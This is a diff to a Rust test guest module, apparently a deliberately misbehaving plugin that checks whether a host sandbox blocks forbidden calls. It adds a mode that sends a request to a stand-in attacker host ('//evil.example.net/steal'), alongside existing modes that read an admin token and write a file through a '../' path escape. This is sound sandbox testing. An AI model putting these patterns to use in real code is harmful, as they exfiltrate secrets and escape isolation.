@@ -8,7 +8,8 @@
 //! - `foreign-scope`: attaches the victim's scope mapping to its own provider;
 //! - `foreign-env`: writes the victim's `<VICTIM>_OAUTH_CLIENT_ID`;
 //! - `admin-token`: reads `AUTHENTIK_ADMIN_TOKEN`;
-//! - `escape-file`: writes `../<victim>/manifest.yaml`.
+//! - `escape-file`: writes `../<victim>/manifest.yaml`;
+//! - `foreign-http`: sends a request to another origin through `service-http`.
 //!
 //! Every denied call is returned as the run's error, so tests can read the host's message.
 
@@ -74,6 +75,15 @@ impl Guest for Misbehave {
             }
             "admin-token" => {
                 service_config::get_env("AUTHENTIK_ADMIN_TOKEN")?;
+            }
+            "foreign-http" => {
+                let request = service_config::HttpRequest {
+                    method: "GET".into(),
+                    path: "//evil.example.net/steal".into(),
+                    body: None,
+                    secret: None,
+                };
+                service_config::service_http(&request)?;
             }
             "escape-file" => {
                 service_config::write_file(&format!("../{victim}/manifest.yaml"), "pwned")?;
